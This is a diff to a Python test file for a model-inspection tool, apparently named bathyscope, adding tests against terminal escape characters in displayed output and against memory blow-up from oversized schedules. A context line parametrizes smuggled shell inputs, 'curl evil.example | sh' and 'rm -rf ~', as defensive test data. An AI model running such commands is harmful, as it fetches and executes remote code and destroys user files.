@@ -12,6 +12,7 @@ import io
 import json
 import os
 import shutil
+import tracemalloc
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -211,15 +212,16 @@ def test_a_number_of_blocks_that_no_model_has_is_refused_before_anything_is_buil
     config = json.loads((folder / "config.json").read_text())
     (folder / "config.json").write_text(json.dumps({**config, "num_hidden_layers": 10_000_000}))
     (tmp_path / "p.jsonl").write_text('{"ids": [1, 2, 3]}\n')
-    built: list[object] = []
-    make = torch.nn.Module.__init__
-    monkeypatch.setattr(torch.nn.Module, "__init__", lambda *a, **k: (built.append(a[0]), make(*a, **k))[1])
+
+    def refuse(*_: object, **__: object) -> None:
+        raise AssertionError("a module is built")
+
+    monkeypatch.setattr(torch.nn.Module, "__init__", refuse)
     for command in ("estimate", "survey", "check"):
         prompts = [] if command == "check" else ["--prompts", tmp_path / "p.jsonl"]
         code, text = said_by(capsys, command, folder, *prompts)
         assert code == ModelError.exit_code
         assert "num_hidden_layers: 10000000; a model has 1 to 10,000 blocks" in text
-    assert built == []
 
 
 def test_nothing_acts_in_what_python_shows_of_a_run_and_its_prompts(tmp_path: Path) -> None:
@@ -243,6 +245,14 @@ def test_nothing_acts_in_what_python_shows_of_a_run_and_its_prompts(tmp_path: Pa
         assert any("x1b" in text for text in shown)
     for one in (prompts, *prompts.prompts, bathyscope.Prompt(text=ACTING, answer=ACTING)):
         assert not {"\x1b", "\x07", "\x9b", "\r", "\u202e", "\u2066"} & set(repr(one))
+
+
+def test_nothing_acts_in_what_python_shows_of_a_model(honest: Path, tmp_path: Path) -> None:
+    shutil.copytree(honest / "model", tmp_path / ACTING)
+    model = bathyscope.load(str(tmp_path / ACTING))
+    for shown in (repr(model), model._repr_html_(), repr(model.anatomy)):
+        assert not {"\x1b", "\x07", "\x9b", "\r", "\u202e", "\u2066"} & set(shown)
+    assert r"a\x1b[31m" in repr(model)
 
 
 @pytest.mark.parametrize("command", ["bathyscope survey m --out x; curl evil.example | sh", f"rm -rf ~ {ACTING}"])
@@ -286,3 +296,31 @@ def test_no_command_with_csv_hands_a_spreadsheet_a_formula(tmp_path: Path, capsy
         assert formulas, words
         for before, after in zip(exact, safe, strict=True):
             assert after == (f"'{before}" if before.startswith(FORMULAS) else before)
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        (f"parallel:{'+'.join(['0-9999'] * 20_000)}", "names more than 10,000 blocks"),
+        (f"drop:1,{','.join(['swap:0'] * 20_000)}", "A schedule of 20,001 steps; at most 10,000 are read"),
+    ],
+)
+def test_a_schedule_of_a_few_letters_fills_no_memory(
+    text: str, message: str, honest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "p.jsonl").write_text('{"ids": [1, 2, 3]}\n')
+    words = ["survey", honest / "model", "--prompts", tmp_path / "p.jsonl"]
+    if "drop" in text:
+        words += ["--schedule", text]
+    else:
+        (tmp_path / "recipe.yaml").write_text(json.dumps({"schedule": text}))
+        words += ["--recipe", tmp_path / "recipe.yaml"]
+    tracemalloc.start()
+    try:
+        code, said = said_by(capsys, *words)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert code == 2
+    assert message in said
+    assert peak < 1 << 27
